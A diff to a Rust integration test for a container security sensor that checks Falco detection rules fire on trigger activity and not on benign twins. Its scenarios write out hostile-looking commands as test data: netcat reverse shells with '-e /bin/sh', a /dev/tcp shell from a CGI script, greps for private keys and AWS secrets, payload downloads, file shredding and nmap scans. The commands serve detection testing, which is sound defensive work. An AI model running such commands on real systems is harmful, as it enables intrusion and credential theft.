@@ -13,7 +13,9 @@
 //! `proc.name`, the kernel's comm, which is the name a process was executed under, exactly
 //! what a renamed attacker tool shows Falco too. Rules about processes on the host cannot
 //! fire on driftwatch's events (it reports processes in containers only); they are fed a
-//! crafted host event through `driftwatch rules test` in [`host_only_rules_fire_on_a_host_event`].
+//! crafted event through `driftwatch rules test` in
+//! [`crafted_events_fire_the_rules_no_container_here_can`], as are the rules needing a
+//! `--privileged` container, which dockerd here cannot start.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::path::{Path, PathBuf};
@@ -35,7 +37,11 @@ const SANDBOX: &str = "falco-sandbox_rules.yaml";
 /// What a scenario does in its container.
 #[derive(Clone, Debug)]
 enum Act {
-    /// `docker exec CONTAINER sh -c SCRIPT`.
+    /// `docker exec CONTAINER ARGV...`: runc executes ARGV[0] by its path.
+    Run(&'static [&'static str]),
+    /// `docker exec CONTAINER sh -c SCRIPT`. Busybox's shell runs an applet named bare by
+    /// re-executing `/proc/self/exe` (comm `exe`, for Falco as for driftwatch): scripts name
+    /// the programs whose `proc.name` a rule tests by their path.
     Sh(String),
     /// `docker exec -t CONTAINER ARGV...`: with a terminal, as `kubectl exec -t` gives one.
     Tty(&'static [&'static str]),
@@ -50,7 +56,9 @@ struct Scenario {
     rule: &'static str,
     /// The upstream file that defines it.
     file: &'static str,
+    /// The image of the trigger's container, then of the quiet one's.
     image: &'static str,
+    quiet_image: &'static str,
     /// `docker run` flags of the trigger's container, then of the quiet one's.
     trigger_run: &'static [&'static str],
     quiet_run: &'static [&'static str],
@@ -67,39 +75,43 @@ fn sh(s: &str) -> Act {
     Act::Sh(s.to_string())
 }
 
-/// Makes `/tmp/standin/NAME` a link to busybox: executed, its comm (`proc.name`) is NAME.
-fn standin(name: &str) -> String {
-    format!("mkdir -p /tmp/standin && ln -sf /bin/busybox /tmp/standin/{name}")
+/// `sh -c` of `/tmp/standin/NAME ARGS`, a link to busybox: its comm (`proc.name`) is NAME.
+fn standin(name: &str, args: &str) -> Act {
+    Act::Sh(format!(
+        "mkdir -p /tmp/standin && ln -sf /bin/busybox /tmp/standin/{name} \
+         && /tmp/standin/{name} {args}; true"
+    ))
 }
 
-/// Makes `/tmp/standin/NAME` a shell script running `body`: a process named NAME (a script's
-/// comm is the script's name) that starts children.
-fn standin_script(name: &str, body: &str) -> String {
-    format!(
+/// `sh -c` of `/tmp/standin/NAME`, a shell script running `body`: a process named NAME (a
+/// script's comm is the script's name) that starts children.
+fn standin_script(name: &str, body: &str) -> Act {
+    Act::Sh(format!(
         "mkdir -p /tmp/standin && printf '#!/bin/sh\\n%s\\n' '{body}' > /tmp/standin/{name} \
-         && chmod 755 /tmp/standin/{name}"
-    )
+         && chmod 755 /tmp/standin/{name} && /tmp/standin/{name}"
+    ))
 }
 
 /// busybox httpd serving a CGI script running `body`, then one request for it: the web server
 /// forks and executes the CGI (comm `run`), whose children have httpd as grandparent.
-fn web_cgi(body: &str) -> String {
-    format!(
+fn web_cgi(body: &str) -> Act {
+    Act::Sh(format!(
         "mkdir -p /www/cgi-bin && printf '#!/bin/sh\\necho\\n%s\\n' '{body}' > /www/cgi-bin/run \
-         && chmod 755 /www/cgi-bin/run && httpd -p 127.0.0.1:8080 -h /www && sleep 0.3 \
-         && printf 'GET /cgi-bin/run HTTP/1.0\\r\\n\\r\\n' | nc -w 3 127.0.0.1 8080 >/dev/null"
-    )
+         && chmod 755 /www/cgi-bin/run && /usr/sbin/httpd -p 127.0.0.1:8080 -h /www && sleep 0.3 \
+         && printf 'GET /cgi-bin/run HTTP/1.0\\r\\n\\r\\n' | /usr/bin/nc -w 3 127.0.0.1 8080 >/dev/null"
+    ))
 }
 
-/// Python in the Debian image executing `/bin/true` from a memfd (or, quiet, from its path).
-fn python_exec(from_memfd: bool) -> String {
+/// Python in the Debian image executing `/bin/true` from a memfd (comm `3`, the descriptor's
+/// name in /proc/self/fd) or, quiet, from its path.
+fn python_exec(from_memfd: bool) -> Act {
     let target = if from_memfd {
         "fd = os.memfd_create(\"x\"); os.write(fd, open(\"/bin/true\", \"rb\").read()); \
          os.execv(\"/proc/self/fd/%d\" % fd, [\"x\"])"
     } else {
         "os.execv(\"/bin/true\", [\"x\"])"
     };
-    format!("python3 -c '{}'", format_args!("import os; {target}"))
+    Act::Sh(format!("python3 -c 'import os; {target}'"))
 }
 
 /// Every upstream exec rule that can run in a container here, with its trigger and quiet twin.
@@ -108,12 +120,19 @@ fn scenarios() -> Vec<Scenario> {
         rule,
         file,
         image,
+        quiet_image: image,
         trigger_run: &[],
         quiet_run: &[],
         trigger,
         quiet,
         process,
         blocked_on: None,
+    };
+    // Starting the container is the activity: its init (`sleep`, pid 1 in the container).
+    let started = |rule, file, trigger_run, quiet_run| Scenario {
+        trigger_run,
+        quiet_run,
+        ..plain(rule, file, BUSYBOX, Act::Start, Act::Start, "sleep")
     };
     vec![
         // --- stable -------------------------------------------------------------------------
@@ -122,58 +141,47 @@ fn scenarios() -> Vec<Scenario> {
             STABLE,
             BUSYBOX,
             Act::Tty(&["sh", "-c", "true"]),
-            Act::Sh("true".into()),
+            Act::Run(&["sh", "-c", "true"]),
             "sh",
         ),
         plain(
             "Netcat Remote Code Execution in Container",
             STABLE,
             BUSYBOX,
-            sh("nc -w 1 127.0.0.1 9 -e /bin/sh; true"),
-            sh("nc -w 1 127.0.0.1 9; true"),
+            Act::Run(&["nc", "-w", "1", "127.0.0.1", "9", "-e", "/bin/sh"]),
+            Act::Run(&["nc", "-w", "1", "127.0.0.1", "9"]),
             "nc",
         ),
         plain(
             "Search Private Keys or Passwords",
             STABLE,
             BUSYBOX,
-            sh("grep -r 'BEGIN PRIVATE' /etc; true"),
-            sh("grep -r 'BEGIN CERTIFICATE' /etc; true"),
+            Act::Run(&["grep", "-r", "BEGIN PRIVATE", "/etc"]),
+            Act::Run(&["grep", "-r", "BEGIN CERTIFICATE", "/etc"]),
             "grep",
         ),
         plain(
             "Remove Bulk Data from Disk",
             STABLE,
             BUSYBOX,
-            sh("echo data > /tmp/bulk && shred -u /tmp/bulk"),
-            sh("echo data > /tmp/bulk && rm -f /tmp/bulk"),
+            sh("echo data > /tmp/bulk && /usr/bin/shred -u /tmp/bulk"),
+            sh("echo data > /tmp/bulk && /bin/rm -f /tmp/bulk"),
             "shred",
         ),
-        Scenario {
-            trigger_run: &["--privileged"],
-            ..plain(
-                "Debugfs Launched in Privileged Container",
-                STABLE,
-                DEBIAN,
-                sh("debugfs -V; true"),
-                sh("debugfs -V; true"),
-                "debugfs",
-            )
-        },
         plain(
             "Find AWS Credentials",
             STABLE,
             BUSYBOX,
-            sh("grep -r aws_secret_access_key /root; true"),
-            sh("grep -r aws_region /root; true"),
+            Act::Run(&["grep", "-r", "aws_secret_access_key", "/root"]),
+            Act::Run(&["grep", "-r", "aws_region", "/root"]),
             "grep",
         ),
         plain(
             "Execution from /dev/shm",
             STABLE,
             BUSYBOX,
-            sh("echo true > /dev/shm/run.sh && sh /dev/shm/run.sh"),
-            sh("echo true > /tmp/run.sh && sh /tmp/run.sh"),
+            sh("echo true > /dev/shm/run.sh && /bin/sh /dev/shm/run.sh"),
+            sh("echo true > /tmp/run.sh && /bin/sh /tmp/run.sh"),
             "sh",
         ),
         plain(
@@ -188,16 +196,16 @@ fn scenarios() -> Vec<Scenario> {
             "Fileless execution via memfd_create",
             STABLE,
             DEBIAN,
-            Act::Sh(python_exec(true)),
-            Act::Sh(python_exec(false)),
-            "x",
+            python_exec(true),
+            python_exec(false),
+            "3",
         ),
         plain(
             "Run shell untrusted",
             STABLE,
             BUSYBOX,
-            Act::Sh(web_cgi("sh -c \"id >/dev/null\"")),
-            Act::Sh(web_cgi("id >/dev/null")),
+            web_cgi("/bin/sh -c \"id >/dev/null\""),
+            web_cgi("/usr/bin/id >/dev/null"),
             "sh",
         ),
         plain(
@@ -213,54 +221,50 @@ fn scenarios() -> Vec<Scenario> {
             "Schedule Cron Jobs",
             INCUBATING,
             BUSYBOX,
-            sh("crontab -l; true"),
-            sh("ls /var/spool/cron; true"),
+            Act::Run(&["crontab", "-l"]),
+            Act::Run(&["ls", "/var/spool/cron"]),
             "crontab",
         ),
         plain(
             "DB program spawned process",
             INCUBATING,
             BUSYBOX,
-            Act::Sh(format!(
-                "{} && /tmp/standin/mysqld",
-                standin_script("mysqld", "ls / >/dev/null")
-            )),
-            Act::Sh(format!(
-                "{} && /tmp/standin/mysqld_safe",
-                standin_script("mysqld_safe", "ls / >/dev/null")
-            )),
+            standin_script("mysqld", "/bin/ls / >/dev/null"),
+            standin_script("mysqld_safe", "/bin/ls / >/dev/null"),
             "ls",
         ),
-        Scenario {
-            trigger_run: &["--privileged"],
-            ..plain(
-                "Launch Privileged Container",
-                INCUBATING,
-                BUSYBOX,
-                Act::Start,
-                Act::Start,
-                "sleep",
-            )
-        },
-        Scenario {
-            trigger_run: &["--cap-add", "SYS_ADMIN"],
-            ..plain(
-                "Launch Excessively Capable Container",
-                INCUBATING,
-                BUSYBOX,
-                Act::Start,
-                Act::Start,
-                "sleep",
-            )
-        },
+        started(
+            "Launch Excessively Capable Container",
+            INCUBATING,
+            &["--cap-add", "SYS_ADMIN"],
+            &[],
+        ),
         plain(
             "Program run with disallowed http proxy env",
             INCUBATING,
             BUSYBOX,
-            sh(
-                "env HTTP_PROXY=http://127.0.0.1:9 wget -q -T 1 -O /dev/null http://127.0.0.1:9/; true",
-            ),
-            sh("env NO_PROXY=127.0.0.1 wget -q -T 1 -O /dev/null http://127.0.0.1:9/; true"),
+            Act::Run(&[
+                "env",
+                "HTTP_PROXY=http://127.0.0.1:9",
+                "/usr/bin/wget",
+                "-q",
+                "-T",
+                "1",
+                "-O",
+                "/dev/null",
+                "http://127.0.0.1:9/",
+            ]),
+            Act::Run(&[
+                "env",
+                "NO_PROXY=127.0.0.1",
+                "/usr/bin/wget",
+                "-q",
+                "-T",
+                "1",
+                "-O",
+                "/dev/null",
+                "http://127.0.0.1:9/",
+            ]),
             "wget",
         ),
         plain(
@@ -275,142 +279,108 @@ fn scenarios() -> Vec<Scenario> {
             "Launch Suspicious Network Tool in Container",
             INCUBATING,
             BUSYBOX,
-            sh("nc -w 1 127.0.0.1 9; true"),
-            sh("netstat -tln >/dev/null"),
+            Act::Run(&["nc", "-w", "1", "127.0.0.1", "9"]),
+            Act::Run(&["netstat", "-tln"]),
             "nc",
         ),
         plain(
             "Launch Remote File Copy Tools in Container",
             INCUBATING,
             BUSYBOX,
-            Act::Sh(format!(
-                "{} && /tmp/standin/scp /etc/hostname /tmp/copy; true",
-                standin("scp")
-            )),
-            sh("cp /etc/hostname /tmp/copy"),
+            standin("scp", "/etc/hostname /tmp/copy"),
+            Act::Run(&["cp", "/etc/hostname", "/tmp/copy"]),
             "scp",
         ),
-        Scenario {
-            trigger_run: &["--privileged"],
-            quiet_run: &["--privileged"],
-            ..plain(
-                "Mount Launched in Privileged Container",
-                INCUBATING,
-                BUSYBOX,
-                sh("mkdir -p /mnt/t && mount -t tmpfs tmpfs /mnt/t"),
-                sh("mount >/dev/null"),
-                "mount",
-            )
-        },
         plain(
             "Launch Ingress Remote File Copy Tools in Container",
             INCUBATING,
             BUSYBOX,
-            sh("wget -q -T 1 -O /tmp/payload http://127.0.0.1:9/payload; true"),
-            sh("nc -w 1 127.0.0.1 9 </dev/null >/tmp/payload; true"),
+            Act::Run(&[
+                "wget",
+                "-q",
+                "-T",
+                "1",
+                "-O",
+                "/tmp/payload",
+                "http://127.0.0.1:9/p",
+            ]),
+            Act::Run(&["nc", "-w", "1", "127.0.0.1", "9"]),
             "wget",
         ),
         plain(
             "Potential Local Privilege Escalation via Environment Variables Misuse",
             INCUBATING,
             BUSYBOX,
-            sh("env GLIBC_TUNABLES=glibc.malloc.mxfast=0 true"),
-            sh("env GLIBC_OTHER=glibc.malloc.mxfast=0 true"),
+            Act::Run(&["env", "GLIBC_TUNABLES=glibc.malloc.mxfast=0", "/bin/true"]),
+            Act::Run(&["env", "GLIBC_OTHER=glibc.malloc.mxfast=0", "/bin/true"]),
             "true",
         ),
         // --- sandbox ------------------------------------------------------------------------
+        // blocked on: catalogue, a missing `container.mount.dest[SOURCE]` (see the mark).
         Scenario {
-            trigger_run: &["-v", "/etc:/host/etc:ro"],
-            quiet_run: &["-v", "/usr/share:/host/share:ro"],
-            ..plain(
+            blocked_on: Some(
+                "catalogue: `container.mount.dest[SOURCE]` of a mount the container does not \
+                 have is Falco's string `N/A` (`<NA>` from the container plugin), which \
+                 upstream's `sensitive_mount` tests with `not ... in (\"<NA>\",\"N/A\")`; \
+                 driftwatch's missing value makes it true for every container",
+            ),
+            ..started(
                 "Launch Sensitive Mount Container",
                 SANDBOX,
-                BUSYBOX,
-                Act::Start,
-                Act::Start,
-                "sleep",
+                &["-v", "/etc:/host/etc:ro"],
+                &["-v", "/usr/share:/host/share:ro"],
             )
         },
+        // The tuning file allows only the Debian image: busybox is disallowed.
         Scenario {
-            // The tuning file allows only the Debian image: busybox is disallowed.
-            quiet_run: &[],
-            ..plain(
-                "Launch Disallowed Container",
-                SANDBOX,
-                BUSYBOX,
-                Act::Start,
-                Act::Start,
-                "sleep",
-            )
+            quiet_image: DEBIAN,
+            ..started("Launch Disallowed Container", SANDBOX, &[], &[])
         },
         plain(
             "Detect crypto miners using the Stratum protocol",
             SANDBOX,
             BUSYBOX,
-            sh("true stratum+tcp://pool.example:3333"),
-            sh("true http+tcp://pool.example:3333"),
+            Act::Run(&["sh", "-c", "true stratum+tcp://pool.example:3333"]),
+            Act::Run(&["sh", "-c", "true http+tcp://pool.example:3333"]),
             "sh",
         ),
         plain(
             "Kubernetes Client Tool Launched in Container",
             SANDBOX,
             BUSYBOX,
-            Act::Sh(format!(
-                "{} && /tmp/standin/kubectl get pods; true",
-                standin("kubectl")
-            )),
-            Act::Sh(format!(
-                "{} && /tmp/standin/helm list; true",
-                standin("helm")
-            )),
+            standin("kubectl", "get pods"),
+            standin("helm", "list"),
             "kubectl",
         ),
-        Scenario {
-            // Upstream ships it disabled; the tuning file enables it as a user would.
-            quiet_run: &["--user", "1000"],
-            ..plain(
-                "Container Run as Root User",
-                SANDBOX,
-                BUSYBOX,
-                Act::Start,
-                Act::Start,
-                "sleep",
-            )
-        },
+        // Upstream ships it disabled; the tuning file enables it as a user would.
+        started(
+            "Container Run as Root User",
+            SANDBOX,
+            &[],
+            &["--user", "1000"],
+        ),
         plain(
             "Sudo Potential Privilege Escalation",
             SANDBOX,
             BUSYBOX,
-            Act::Sh(format!(
-                "{} && /tmp/standin/sudoedit -s 'x\\'; true",
-                standin("sudoedit")
-            )),
-            Act::Sh(format!(
-                "{} && /tmp/standin/sudoedit -s x; true",
-                standin("sudoedit")
-            )),
+            standin("sudoedit", "-s 'x\\'"),
+            standin("sudoedit", "-s x"),
             "sudoedit",
         ),
         plain(
             "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
             SANDBOX,
             BUSYBOX,
-            Act::Sh(format!(
-                "{} && /tmp/standin/pkexec; true",
-                standin("pkexec")
-            )),
-            Act::Sh(format!(
-                "{} && /tmp/standin/pkexec --version; true",
-                standin("pkexec")
-            )),
+            standin("pkexec", ""),
+            standin("pkexec", "--version"),
             "pkexec",
         ),
         plain(
             "Decoding Payload in Container",
             SANDBOX,
             BUSYBOX,
-            sh("echo aGVsbG8K | base64 -d >/dev/null"),
-            sh("echo hello | base64 >/dev/null"),
+            sh("echo aGVsbG8K | /bin/base64 -d >/dev/null"),
+            sh("echo hello | /bin/base64 >/dev/null"),
             "base64",
         ),
         plain(
@@ -418,83 +388,153 @@ fn scenarios() -> Vec<Scenario> {
             SANDBOX,
             BUSYBOX,
             Act::Tty(&["whoami"]),
-            Act::Sh("whoami".into()),
+            Act::Run(&["whoami"]),
             "whoami",
         ),
         plain(
             "Network Tool Executed During NPM Package Install",
             SANDBOX,
             BUSYBOX,
-            Act::Sh(format!(
-                "{} && /tmp/standin/npm",
-                standin_script("npm", "nc -w 1 127.0.0.1 9; true")
-            )),
-            Act::Sh(format!(
-                "{} && /tmp/standin/npm",
-                standin_script("npm", "ls / >/dev/null")
-            )),
+            standin_script("npm", "/usr/bin/nc -w 1 127.0.0.1 9; true"),
+            standin_script("npm", "/bin/ls / >/dev/null"),
             "nc",
         ),
         plain(
             "Known Cryptominer Process Executed",
             SANDBOX,
             BUSYBOX,
-            Act::Sh(format!(
-                "{} && /tmp/standin/xmrig --version; true",
-                standin("xmrig")
-            )),
-            Act::Sh(format!(
-                "{} && /tmp/standin/xmrig-proxy --version; true",
-                standin("xmrig-proxy")
-            )),
+            standin("xmrig", "--version"),
+            standin("xmrig-proxy", "--version"),
             "xmrig",
         ),
         plain(
             "Web Server Spawned Shell",
             SANDBOX,
             BUSYBOX,
-            Act::Sh(web_cgi("sh -c \"id >/dev/null\"")),
-            Act::Sh(web_cgi("sh -c /usr/bin/id")),
+            web_cgi("/bin/sh -c \"id >/dev/null\""),
+            web_cgi("/bin/sh -c /usr/bin/id"),
             "sh",
         ),
         plain(
             "Web Server Spawned Suspicious Child Process",
             SANDBOX,
             BUSYBOX,
-            Act::Sh(web_cgi("id >/dev/null")),
-            Act::Sh(web_cgi("ls / >/dev/null")),
+            web_cgi("/usr/bin/id >/dev/null"),
+            web_cgi("/bin/ls / >/dev/null"),
             "id",
         ),
         plain(
             "Reverse Shell from Web Server",
             SANDBOX,
             BUSYBOX,
-            Act::Sh(web_cgi("sh -c \"exec 3<>/dev/tcp/127.0.0.1/9\"")),
-            Act::Sh(web_cgi("sh -c \"exec 3<>/tmp/web.out\"")),
+            web_cgi("/bin/sh -c \"exec 3<>/dev/tcp/127.0.0.1/9\""),
+            web_cgi("/bin/sh -c \"exec 3<>/tmp/web.out\""),
             "sh",
         ),
     ]
 }
 
-/// Upstream exec rules no container here can fire, and why; each is covered by
-/// [`host_only_rules_fire_on_a_host_event`] with a crafted event.
-const HOST_ONLY: [(&str, &str, &str); 3] = [
-    (
-        "User mgmt binaries",
-        INCUBATING,
-        "`not container`: driftwatch reports processes in containers only",
-    ),
-    (
-        "Launch Suspicious Network Tool on Host",
-        INCUBATING,
-        "`not container`: driftwatch reports processes in containers only",
-    ),
-    (
-        "Netcat/Socat Remote Code Execution on Host",
-        SANDBOX,
-        "`not container`: driftwatch reports processes in containers only",
-    ),
-];
+/// Why an upstream exec rule cannot fire in a container here.
+const HOST_ONLY: &str = "`not container`: driftwatch reports processes in containers only";
+const NO_PRIVILEGED: &str = "dockerd here cannot start --privileged containers (the host's \
+     capability bounding set lacks CAP_SYS_RESOURCE): container.privileged=true is crafted";
+
+/// An upstream exec rule no container here can fire: the crafted events (as driftwatch's exec
+/// sensor reports them) that must fire it and must not, fed through `driftwatch rules test`.
+struct Crafted {
+    rule: &'static str,
+    file: &'static str,
+    why: &'static str,
+    trigger: Value,
+    quiet: Value,
+    /// `proc.name` of the process the alert must name.
+    process: String,
+}
+
+/// A crafted exec of `argv` with pid `vpid` in its namespace, in `container` (`None`: on the
+/// host).
+fn crafted_exec(argv: &[&str], vpid: u32, container: Option<Value>) -> Value {
+    serde_json::json!({
+        "time_ns": 1_796_655_503_614_141_389u64,
+        // Numbered as the agent numbers events, from 1: upstream's `never_true` is
+        // `evt.num=0`, true only of an unnumbered event.
+        "num": 7,
+        "kind": "execve",
+        "process": {
+            "pid": 4242, "ppid": 4241, "uid": 0, "gid": 0, "user_name": "root",
+            "name": argv[0], "exepath": format!("/usr/bin/{}", argv[0]), "argv": argv,
+            "cwd": "/root", "tty": 34816, "ancestors": ["bash", "sshd"],
+            "pexepath": "/usr/bin/bash", "pargv": ["-bash"], "loginuid": 1000,
+            "vpid": vpid, "sid": 4000, "vpgid": vpid,
+        },
+        "container": container,
+    })
+}
+
+/// A crafted Docker container's metadata.
+fn crafted_container(privileged: bool) -> Option<Value> {
+    Some(serde_json::json!({
+        "id": "0123456789ab0123456789ab0123456789ab0123456789ab0123456789ab0123",
+        "engine": "docker",
+        "name": "crafted",
+        "image": {"repository": "driftwatch-test/debian", "tag": "12"},
+        "privileged": privileged,
+    }))
+}
+
+fn crafted() -> Vec<Crafted> {
+    let host = |rule, file, argv: &[&str]| Crafted {
+        rule,
+        file,
+        why: HOST_ONLY,
+        trigger: crafted_exec(argv, 4242, None),
+        quiet: crafted_exec(argv, 42, crafted_container(false)),
+        process: argv[0].to_string(),
+    };
+    // Privileged or not, or (for the mount) a privileged `mount` that only lists.
+    let privileged = |rule, file, trigger: &[&str], quiet: Value, vpid| Crafted {
+        rule,
+        file,
+        why: NO_PRIVILEGED,
+        trigger: crafted_exec(trigger, vpid, crafted_container(true)),
+        quiet,
+        process: trigger[0].to_string(),
+    };
+    vec![
+        host("User mgmt binaries", INCUBATING, &["passwd", "alice"]),
+        host(
+            "Launch Suspicious Network Tool on Host",
+            INCUBATING,
+            &["nmap", "-sS", "10.0.0.0/24"],
+        ),
+        host(
+            "Netcat/Socat Remote Code Execution on Host",
+            SANDBOX,
+            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+        ),
+        privileged(
+            "Debugfs Launched in Privileged Container",
+            STABLE,
+            &["debugfs", "-V"],
+            crafted_exec(&["debugfs", "-V"], 42, crafted_container(false)),
+            42,
+        ),
+        privileged(
+            "Mount Launched in Privileged Container",
+            INCUBATING,
+            &["mount", "-t", "tmpfs", "tmpfs", "/mnt"],
+            crafted_exec(&["mount"], 42, crafted_container(true)),
+            42,
+        ),
+        privileged(
+            "Launch Privileged Container",
+            INCUBATING,
+            &["sleep", "300"],
+            crafted_exec(&["sleep", "300"], 1, crafted_container(false)),
+            1,
+        ),
+    ]
+}
 
 /// The user's tuning file: container fields appended to the outputs of the rules under test,
 /// the rule upstream ships disabled enabled, only the Debian image allowed, and a marker rule
@@ -523,6 +563,11 @@ fn tuning_file(dir: &Path, rules: &[&str]) -> PathBuf {
 fn perform(c: &TestContainer, act: &Act) {
     let out = match act {
         Act::Start => return,
+        Act::Run(argv) => {
+            let mut all = vec!["exec", c.id.as_str()];
+            all.extend_from_slice(argv);
+            docker(&all)
+        }
         Act::Sh(script) => docker(&["exec", &c.id, "sh", "-c", script]),
         Act::As(user, script) => docker(&["exec", "-u", user, &c.id, "sh", "-c", script]),
         Act::Tty(argv) => {
@@ -623,12 +668,12 @@ fn run_group(file: &str) {
 
     let mut pairs = Vec::new();
     for s in &group {
-        let run = |flags: &[&str]| {
+        let run = |flags: &[&str], image| {
             let mut all: Vec<&str> = flags.to_vec();
-            all.extend([s.image, "sleep", "300"]);
+            all.extend([image, "sleep", "300"]);
             TestContainer::run(&all)
         };
-        pairs.push((run(s.trigger_run), run(s.quiet_run)));
+        pairs.push((run(s.trigger_run, s.image), run(s.quiet_run, s.quiet_image)));
     }
     let all: Vec<&TestContainer> = pairs.iter().flat_map(|(t, q)| [t, q]).collect();
     until_watched(&agent, &all);
@@ -706,31 +751,6 @@ fn sandbox_exec_rules_fire_in_containers() {
     run_group(SANDBOX);
 }
 
-/// A crafted exec event of a process on the host (or, `in_container`, in a container):
-/// what driftwatch's exec sensor would report for it.
-fn crafted_exec(argv: &[&str], in_container: bool) -> Value {
-    let container = in_container.then(|| {
-        serde_json::json!({
-            "id": "0123456789ab0123456789ab0123456789ab0123456789ab0123456789ab0123",
-            "engine": "docker",
-            "name": "crafted",
-            "image": {"repository": "driftwatch-test/busybox", "tag": "1"},
-        })
-    });
-    serde_json::json!({
-        "time_ns": 1_796_655_503_614_141_389u64,
-        "kind": "execve",
-        "process": {
-            "pid": 4242, "ppid": 4241, "uid": 0, "gid": 0, "user_name": "root",
-            "name": argv[0], "exepath": format!("/usr/bin/{}", argv[0]), "argv": argv,
-            "cwd": "/root", "tty": 34816, "ancestors": ["bash", "sshd"],
-            "pexepath": "/usr/bin/bash", "pargv": ["-bash"], "loginuid": 1000,
-            "vpid": 4242, "sid": 4000, "vpgid": 4242,
-        },
-        "container": container,
-    })
-}
-
 /// `driftwatch rules test` of `events` with the upstream files: the alerts.
 fn replay(events: &[Value]) -> Vec<Value> {
     let dir = tempfile::tempdir().unwrap();
@@ -756,42 +776,30 @@ fn replay(events: &[Value]) -> Vec<Value> {
         .collect()
 }
 
-/// The rules upstream writes for processes on the host, fed crafted host events through the
-/// real loader and engine; the same events in a container must not fire them.
+/// The upstream exec rules no container here can fire, fed their crafted events through the
+/// real loader and engine: each trigger fires its rule naming its process, no quiet twin does.
 #[test]
-fn host_only_rules_fire_on_a_host_event() {
-    let cases: [(&str, &[&str]); 3] = [
-        ("User mgmt binaries", &["passwd", "alice"]),
-        (
-            "Launch Suspicious Network Tool on Host",
-            &["nmap", "-sS", "10.0.0.0/24"],
-        ),
-        (
-            "Netcat/Socat Remote Code Execution on Host",
-            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
-        ),
-    ];
-    assert_eq!(
-        cases.map(|(r, _)| r),
-        HOST_ONLY.map(|(r, _, _)| r),
-        "every host-only rule has a case"
-    );
-    let on_host = replay(&cases.map(|(_, argv)| crafted_exec(argv, false)));
-    for (rule, argv) in cases {
-        let hit = on_host
+fn crafted_events_fire_the_rules_no_container_here_can() {
+    let cases = crafted();
+    let fired = replay(&cases.iter().map(|c| c.trigger.clone()).collect::<Vec<_>>());
+    let quiet = replay(&cases.iter().map(|c| c.quiet.clone()).collect::<Vec<_>>());
+    for c in &cases {
+        let hit = fired
             .iter()
-            .find(|a| a["rule"] == rule && field(a, "proc.name") == argv[0]);
+            .find(|a| a["rule"] == c.rule && field(a, "proc.name") == c.process.as_str());
         let Some(hit) = hit else {
-            panic!("{rule} did not fire for the host event of {argv:?}; alerts: {on_host:#?}");
+            panic!(
+                "{} ({}) did not fire for {}; alerts: {fired:#?}",
+                c.rule, c.why, c.trigger
+            );
         };
         assert_eq!(hit["hostname"], "crafted", "{hit}");
         assert_eq!(hit["source"], "syscall", "{hit}");
-    }
-    let in_container = replay(&cases.map(|(_, argv)| crafted_exec(argv, true)));
-    for (rule, _) in cases {
         assert!(
-            !in_container.iter().any(|a| a["rule"] == rule),
-            "{rule} fired for a process in a container: {in_container:#?}"
+            !quiet.iter().any(|a| a["rule"] == c.rule),
+            "{} fired for its quiet twin {}: {quiet:#?}",
+            c.rule,
+            c.quiet
         );
     }
 }
@@ -851,7 +859,7 @@ fn every_upstream_exec_rule_has_a_scenario() {
         .iter()
         .map(|s| (s.rule.to_string(), s.file))
         .collect();
-    covered.extend(HOST_ONLY.iter().map(|(r, f, _)| (r.to_string(), *f)));
+    covered.extend(crafted().iter().map(|c| (c.rule.to_string(), c.file)));
     assert!(upstream.len() >= 39, "the scan found too few: {upstream:?}");
     assert_eq!(
         upstream, covered,
